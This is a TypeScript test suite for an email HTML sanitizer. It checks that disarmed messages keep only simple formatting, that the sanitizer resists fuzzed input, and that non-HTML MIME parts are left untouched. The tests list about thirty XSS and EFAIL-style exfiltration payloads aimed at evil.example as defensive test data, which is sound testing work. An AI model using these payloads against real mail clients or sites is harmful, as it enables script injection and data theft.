/** Active HTML of unauthenticated content (threats 1, 2). */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { disarmMail } from '#domain/mail/disarm-mail.ts';
import { disarmHtml } from '#domain/mail/html-disarm.ts';
import { octetsOf } from '#domain/mail/octets.ts';
import { decodedBody } from '#domain/mime/transfer.ts';
import { entitiesOf } from '#domain/mime/tree.ts';
import { bytesOf, fixture, mail, parsed, textOf } from '../mime/fixture.ts';

const body = (html: string): string => /<body>\r\n([\s\S]*)\r\n<\/body>/.exec(disarmHtml(html))![1]!;

/** Every tag of the result, checked against the only forms that may come out. */
function assertHarmless(html: string): void {
  const tags = body(html).match(/<[^>]*>?/g) ?? [];
  for (const tag of tags) {
    assert.match(tag, /^<\/?[a-z][a-z0-9]*(?: (?:colspan|rowspan|dir|align)="[a-z0-9]{1,7}")*>$/, html);
    assert.doesNotMatch(tag, /^<\/?(?:a|img|script|link|form|input|base|meta|style|iframe|svg|body|html)\b/);
  }
}

describe('disarmed HTML', () => {
  it('keeps text and simple form', () => {
    assert.equal(
      body(
        '<p>Hello <b>Kim</b>,<br>a &lt; b &amp; c&nbsp;d</p><table><tr><td colspan=2 align="right" style="x">1</td></tr></table>',
      ),
      '<p>Hello <b>Kim</b>,<br>a &lt; b &amp; c&nbsp;d</p><table><tr><td colspan="2" align="right">1</td></tr></table>',
    );
    assert.equal(body('<a href="http://x.example/?q=1">link</a>'), ' link ');
    assert.equal(body('1 < 2 & 3 > "2"'), '1 &#60; 2 &#38; 3 &#62; &#34;2&#34;'.replace('&#60;', '&lt;'));
  });
  it('writes no reference and no script, however the markup is broken', () => {
    const attacks = [
      '<img src="http://evil.example/?secret', // the gadget of EFAIL: a quote that never ends
      '<img src="http://evil.example/?">secret">',
      "<img/src='http://evil.example/'>",
      '<IMG\nSRC=http://evil.example/>',
      '<script>alert(1)</script>',
      '<scr<script>ipt>alert(1)</scr</script>ipt>',
      '<style>@import "http://evil.example/";</style><p style="background:url(http://e.example)">x',
      '<svg><script href="http://evil.example/"/></svg>',
      '<link rel=stylesheet href=//evil.example/>',
      '<base href="http://evil.example/">',
      '<meta http-equiv=refresh content="0;url=http://evil.example/">',
      '<form action="http://evil.example/"><input name=x></form>',
      '<object data="http://evil.example/"></object>',
      '<p onclick="x" onmouseover=y>z',
      '<p dir="ltr" dir="x" align="&quot;><script>">',
      '<td align=url(x) colspan=99999999>',
      '<!--><img src=http://evil.example/>-->',
      '<!-- --!><img src=x> -->',
      '<![CDATA[<img src=x>]]>',
      '<?xml <img src=x>?>',
      '<\u0000img src=x>',
      '<img\u0000src=x>',
      '&lt;img src=x&gt;',
      '<a href="&#106;avascript:alert(1)">x</a>',
      '</p/><p/onload=x>',
      '<p =">" <img src=x>',
      '<<img src=x>>',
      '<textarea><p></textarea><img src=x>',
      '<title></title><img src=x>',
      '<noscript><p title="</noscript><img src=x>">',
      '<math><mtext></form><form><mglyph><style></math><img src=x>',
      '<video poster=//evil.example/><source src=//evil.example/>',
    ];
    for (const attack of attacks) {
      assertHarmless(attack);
      assertHarmless(`<p>before ${attack} after`);
    }
    assert.ok(body('<img src="http://evil.example/?secret').includes('secret'));
  });
  it('is harmless for any text, and stays so when done again', () => {
    const unit = fc.constantFrom(
      '<',
      '>',
      '</',
      '"',
      "'",
      '`',
      '=',
      ' ',
      '/',
      '!',
      '--',
      '&',
      ';',
      '#',
      'img',
      'script',
      'p',
      'td',
      'src=',
      'colspan=',
      'align=',
      'x',
      '\u0000',
      '\n',
      '<!--',
      '-->',
      '<p',
      '<script>',
    );
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 40 }), (html) => {
        assertHarmless(html);
        assertHarmless(disarmHtml(html));
      }),
      { seed: 1, numRuns: 10_000 },
    );
  });
  it('is made in linear time', () => {
    const started = performance.now();
    for (const hostile of [
      '<',
      '<a',
      '<a "',
      '<a \'">',
      '<!--',
      '<p>',
      '<script>',
      '</',
      '&',
      '<x ="',
      '<td colspan=',
      '<p  ',
      '<style></style ',
    ]) {
      disarmHtml(hostile.repeat(Math.ceil(500_000 / hostile.length)));
    }
    assert.ok(performance.now() - started < 10_000);
  });
});

describe('a disarmed mail', () => {
  it('has its HTML parts written anew, and all other octets as they were', () => {
    const bytes = fixture('outlook-mixed.eml');
    const out = bytesOf(disarmMail(octetsOf(bytes), parsed(bytes))!);
    const before = [...entitiesOf(parsed(bytes))];
    const after = [...entitiesOf(parsed(out))];
    assert.deepEqual(
      after.map((e) => e.contentType.value),
      before.map((e) => e.contentType.value),
    );
    before.forEach((entity, i) => {
      if (entity.children.length > 0) return;
      const same = out
        .subarray(after[i]!.start, after[i]!.end)
        .equals(bytes.subarray(entity.start, entity.end));
      assert.equal(same, entity.contentType.value !== 'text/html');
    });
    const html = after.find((e) => e.contentType.value === 'text/html')!;
    assert.ok(textOf(decodedBody(octetsOf(out), html)).includes('Grüße'));
  });
  it('is the same mail when it has no HTML', () => {
    const bytes = fixture('plain-7bit.eml');
    assert.equal(disarmMail(octetsOf(bytes), parsed(bytes)), null);
  });
  it('reads HTML in the charset it claims, and makes an attachment of what it cannot disarm', () => {
    const utf16 = Buffer.concat([
      mail('Content-Type: text/html; charset=utf-16le\n\n'),
      Buffer.from('<img src=x>gr\u00fc\u00df', 'utf16le'),
    ]);
    const out = bytesOf(disarmMail(octetsOf(utf16), parsed(utf16))!);
    assert.match(textOf(decodedBody(octetsOf(out), parsed(out))), /<body>\r\n grüß/);
    const svg = mail(
      'From: a@b.example\nContent-Type: image/svg+xml\nContent-Disposition: inline\n\n<svg/>\n',
    );
    const root = parsed(bytesOf(disarmMail(octetsOf(svg), parsed(svg))!));
    assert.equal(root.contentType.value, 'application/octet-stream');
    assert.deepEqual(
      root.header.fields.map((f) => f.key),
      ['from', 'content-type', 'content-disposition', 'content-transfer-encoding'],
    );
  });
});
